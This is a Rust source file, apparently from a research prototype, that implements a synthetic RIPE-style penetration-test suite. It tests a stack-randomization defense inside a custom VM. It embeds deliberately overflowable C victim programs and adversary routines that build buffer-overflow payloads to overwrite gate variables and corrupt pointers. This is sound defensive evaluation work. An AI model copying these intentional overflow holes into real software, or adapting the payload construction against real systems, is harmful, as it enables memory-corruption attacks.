//! The synthetic penetration-test suite (paper §V-C), following the
//! RIPE methodology: {direct, indirect} overflows × {stack, heap, data
//! segment} buffer locations, all corrupting *non-control* stack data.
//!
//! * [`DirectStack`] — classic adjacent-local overwrite: two distinct
//!   gate values must land on two distinct locals (a spray of one value
//!   cannot satisfy both, so layout knowledge is required).
//! * [`IndirectStack`] — the overflow corrupts a data pointer and a
//!   value; the program's own `*p = v` store finishes the job.
//! * [`HeapIndirect`] — a heap buffer overflow corrupts an adjacent
//!   heap control block holding a write target that points into the
//!   stack (the paper's "overflow a buffer in the data segment or heap
//!   to overwrite local variables in the stack").
//! * [`DataIndirect`] — same with globals in the data segment.
//!
//! Every attack needs the *current* address/offset of its stack
//! targets; Smokestack invalidates that knowledge per invocation, which
//! is exactly how it stops all four (the indirect ones "fail on the
//! first step, as they overwrote a different address than the intended
//! pointer" — §V-C).

use smokestack_vm::{FnInput, Memory};

use crate::intel::{scan_stack, Knowledge, Slot};
use crate::{conclude, Attack, AttackOutcome, Build, CommitFlag};

/// Base of the per-invocation tag main passes to `handle` — the anchor
/// value the adversary scans for to locate the live frame.
const TAG_BASE: i64 = 0x0123456789ABCDEF;

/// How many invocations of `handle` each victim program performs.
const INVOCATIONS: usize = 6;

/// The spilled `tag` parameter every offset is taken from.
const TAG: Slot = ("handle", "tag");

/// All four synthetic attacks in report order.
pub fn all() -> Vec<Box<dyn Attack>> {
    vec![
        Box::new(DirectStack),
        Box::new(IndirectStack),
        Box::new(HeapIndirect),
        Box::new(DataIndirect),
    ]
}

/// The attacker's knowledge of `handle`'s frame: predicted under
/// `pseudo`, one guessed row under a secure scheme, else disclosed by a
/// probe of a prior run.
fn knowledge(build: &Build, run_seed: u64) -> Knowledge<'_> {
    Knowledge::pbox(build, run_seed, 0x6355, true)
        .unwrap_or_else(|| Knowledge::probed(build, run_seed ^ 0x9999, &vec![vec![]; INVOCATIONS]))
}

/// Find the live frame anchor: the spilled `tag` parameter of the
/// current invocation (`TAG_BASE + request_index`).
fn find_anchor(mem: &Memory, req: u64) -> Option<u64> {
    scan_stack(mem, (TAG_BASE + req as i64) as u64, 2 << 20)
}

/// Shared implementation for the two stack overflows: land `values` on
/// the two locals `targets` of the live `handle` frame with one overflow
/// of `buf`, then read `granted` for `goal`. The attack fires at the
/// first invocation whose known layout puts both targets above `buf`
/// within the 256-byte read.
fn stack_attempt(
    build: &Build,
    run_seed: u64,
    targets: [&str; 2],
    values: [u64; 2],
    goal: fn(u64) -> bool,
    goal_desc: &str,
) -> AttackOutcome {
    let slots = [
        ("handle", "buf"),
        ("handle", targets[0]),
        ("handle", targets[1]),
    ];
    let usable = |offs: &[i64]| {
        let (buf, t0, t1) = (offs[0], offs[1], offs[2]);
        t0 > buf && t1 > buf && t0 - buf + 8 <= 256 && t1 - buf + 8 <= 256
    };
    let mut knowledge = knowledge(build, run_seed);
    if knowledge.rules_out(TAG, &slots, usable) {
        return AttackOutcome::Aborted;
    }

    let committed = CommitFlag::new();
    let mut vm = build.vm(run_seed);
    let adversary = FnInput(|mem: &mut Memory, req, _max| {
        if committed.is_armed() {
            return vec![]; // one shot per session
        }
        let Some(anchor) = find_anchor(mem, req) else {
            return vec![];
        };
        let Some(offs) = knowledge.deltas(Some(mem), 0, TAG, &slots) else {
            return vec![];
        };
        if !usable(&offs) {
            return vec![]; // this invocation's layout is no good
        }
        let buf_d = offs[0];
        let buf_addr = (anchor as i64 + buf_d) as u64;
        let span = (offs[1].max(offs[2]) - buf_d + 8) as usize;
        let Ok(bytes) = mem.read(buf_addr, span as u64) else {
            return vec![];
        };
        let mut payload = bytes.to_vec();
        for (d, v) in offs[1..].iter().zip(values) {
            let at = (d - buf_d) as usize;
            payload[at..at + 8].copy_from_slice(&v.to_le_bytes());
        }
        committed.arm();
        payload
    });
    let out = vm.run_main(adversary);
    let granted = vm
        .mem()
        .read_uint(vm.global_addr("granted"), 8)
        .unwrap_or(0);
    conclude(&out, &committed, goal(granted), goal_desc).into_outcome()
}

// ---------------------------------------------------------------------
// 1. Direct stack overflow.
// ---------------------------------------------------------------------

/// Direct stack-buffer overflow corrupting two adjacent locals.
pub struct DirectStack;

const DIRECT_STACK_SRC: &str = r#"
    long granted = 0;

    void handle(long tag) {
        long key1 = 0;
        long key2 = 0;
        char scratch[24];
        long state = 7;
        char name[48];
        long len = 0;
        long tmp = 0;
        char buf[32];
        scratch[0] = 1;
        name[0] = 2;
        tmp = state + len;
        get_input(buf, 256);
        if (key1 == 287454020) {
            if (key2 == 1432778632) {
                granted = granted + 1;
            }
        }
    }

    int main() {
        long i = 0;
        while (i < 6) {
            handle(81985529216486895 + i);
            i = i + 1;
        }
        return 0;
    }
"#;

impl Attack for DirectStack {
    fn name(&self) -> &str {
        "synthetic-direct-stack"
    }

    fn source(&self) -> &str {
        DIRECT_STACK_SRC
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        stack_attempt(
            build,
            run_seed,
            ["key1", "key2"],
            [287454020, 1432778632],
            |granted| granted >= 1,
            "authorization gates overwritten",
        )
    }
}

// ---------------------------------------------------------------------
// 2. Indirect stack overflow (pointer + value corruption).
// ---------------------------------------------------------------------

/// Indirect overflow: corrupt a pointer/value pair; the program's own
/// store writes the attacker's value to the attacker's address.
pub struct IndirectStack;

/// The indirect-stack victim: the overflow corrupts a data pointer
/// and a value; the program's own `*p = v` store finishes the job.
/// Shared with the payload synthesizer as a redirect-goal target.
pub const INDIRECT_STACK_SRC: &str = r#"
    long granted = 0;

    void handle(long tag) {
        long v = 0;
        long *p = 0;
        char scratch[24];
        long state = 7;
        char name[48];
        long len = 0;
        long tmp = 0;
        char buf[32];
        scratch[0] = 1;
        name[0] = 2;
        tmp = state + len;
        get_input(buf, 256);
        if (p != 0) { *p = v; }
    }

    int main() {
        long i = 0;
        while (i < 6) {
            handle(81985529216486895 + i);
            i = i + 1;
        }
        return 0;
    }
"#;

impl Attack for IndirectStack {
    fn name(&self) -> &str {
        "synthetic-indirect-stack"
    }

    fn source(&self) -> &str {
        INDIRECT_STACK_SRC
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        stack_attempt(
            build,
            run_seed,
            ["v", "p"],
            [4242, build.global_addr("granted")],
            |granted| granted == 4242,
            "arbitrary write via corrupted pointer",
        )
    }
}

// ---------------------------------------------------------------------
// 3 & 4. Heap / data-segment indirect overflows into the stack.
// ---------------------------------------------------------------------

const HEAP_INDIRECT_SRC: &str = r#"
    long granted = 0;

    void handle(long tag) {
        long gate = 0;
        char scratch[24];
        long state = 7;
        char name[48];
        char extra1[40];
        char extra2[56];
        char extra3[72];
        long len = 0;
        long tmp = 0;
        char *hbuf = malloc(64);
        scratch[0] = 1;
        name[0] = 2;
        extra1[0] = 3;
        extra2[0] = 4;
        extra3[0] = 5;
        tmp = state + len;
        long *ctl = malloc(32);
        ctl[0] = &gate;
        ctl[1] = 7;
        get_input(hbuf, 128);
        long *d = ctl[0];
        *d = ctl[1];
        if (gate == 1234321) { granted = granted + 1; }
        free(ctl);
        free(hbuf);
    }

    int main() {
        long i = 0;
        while (i < 6) {
            handle(81985529216486895 + i);
            i = i + 1;
        }
        return 0;
    }
"#;

const DATA_INDIRECT_SRC: &str = r#"
    long granted = 0;
    char gbuf[64];
    long gctl[2];

    void handle(long tag) {
        long gate = 0;
        char scratch[24];
        long state = 7;
        char name[48];
        char extra1[40];
        char extra2[56];
        char extra3[72];
        long len = 0;
        long tmp = 0;
        scratch[0] = 1;
        name[0] = 2;
        extra1[0] = 3;
        extra2[0] = 4;
        extra3[0] = 5;
        tmp = state + len;
        gctl[0] = &gate;
        gctl[1] = 3;
        get_input(gbuf, 96);
        long *d = gctl[0];
        *d = gctl[1];
        if (gate == 7654321) { granted = granted + 1; }
    }

    int main() {
        long i = 0;
        while (i < 6) {
            handle(81985529216486895 + i);
            i = i + 1;
        }
        return 0;
    }
"#;

/// Shared implementation for the heap/data indirect attacks: overflow a
/// non-stack buffer to corrupt an adjacent `[dest, value]` control pair
/// that the program then stores through.
fn indirect_attempt(build: &Build, run_seed: u64, magic: i64, filler: usize) -> AttackOutcome {
    let mut knowledge = knowledge(build, run_seed);
    let committed = CommitFlag::new();
    let mut vm = build.vm(run_seed);
    let adversary = FnInput(|mem: &mut Memory, req, _max| {
        if committed.is_armed() {
            return vec![]; // one shot per session
        }
        let Some(anchor) = find_anchor(mem, req) else {
            return vec![];
        };
        let Some(offs) = knowledge.deltas(Some(mem), 0, TAG, &[("handle", "gate")]) else {
            return vec![];
        };
        let gate_addr = (anchor as i64 + offs[0]) as u64;
        // [filler][dest pointer][value]
        let mut payload = vec![0x41u8; filler];
        payload.extend_from_slice(&gate_addr.to_le_bytes());
        payload.extend_from_slice(&magic.to_le_bytes());
        committed.arm();
        payload
    });
    let out = vm.run_main(adversary);
    let granted = vm
        .mem()
        .read_uint(vm.global_addr("granted"), 8)
        .unwrap_or(0);
    conclude(
        &out,
        &committed,
        granted >= 1,
        "stack local hit through corrupted pointer",
    )
    .into_outcome()
}

/// Heap-buffer overflow corrupting an adjacent heap control block.
pub struct HeapIndirect;

impl Attack for HeapIndirect {
    fn name(&self) -> &str {
        "synthetic-indirect-heap"
    }

    fn source(&self) -> &str {
        HEAP_INDIRECT_SRC
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        indirect_attempt(build, run_seed, 1234321, 64)
    }
}

/// Data-segment overflow corrupting adjacent global control data.
pub struct DataIndirect;

impl Attack for DataIndirect {
    fn name(&self) -> &str {
        "synthetic-indirect-data"
    }

    fn source(&self) -> &str {
        DATA_INDIRECT_SRC
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        indirect_attempt(build, run_seed, 7654321, 64)
    }
}
